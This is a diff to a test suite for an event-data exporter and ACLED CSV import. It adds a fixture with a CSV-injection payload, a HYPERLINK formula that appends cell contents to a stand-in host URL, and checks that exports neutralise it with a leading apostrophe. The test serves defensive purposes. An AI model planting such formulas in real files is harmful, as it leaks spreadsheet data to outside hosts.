@@ -53,7 +53,10 @@ describe('exports, feeds, ACLED import and the mirror', () => {
               injured: 3,
               location: { ...e.location, geonames_id: 609_404 },
             }
-          : e,
+          : i % 5 === 1
+            ? // Text a spreadsheet would run as a formula (CSV injection).
+              { ...e, notes: '=HYPERLINK("http://x.example/?"&A1,"open") +1', sources: [{ name: '@handle' }] }
+            : e,
       );
     }
     const answers = await a.node.ingest.submit(events.map((e) => buildDeskCodedEvent(a.deskKey!, e)));
@@ -88,6 +91,11 @@ describe('exports, feeds, ACLED import and the mirror', () => {
     const rows = parseCsv(csv);
     expect(rows[0]?.slice(0, ACLED_COLUMNS.length)).toEqual([...ACLED_COLUMNS]);
     expect(rows.length).toBe(events.length + 1);
+    // Formula text is written with an apostrophe in front, and read back without it.
+    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""open"") +1"`);
+    expect(csv).toContain(`'@handle`);
+    expect(rows.some((r) => r.includes('@handle'))).toBe(true);
+    for (const row of csv.split('\r\n')) expect(row).not.toMatch(/(^|,)"?[=@]/);
 
     const result = await importAcled(b.node, csv);
     expect(result).toMatchObject({ stored: events.length, updated: 0, unchanged: 0, skipped: [] });
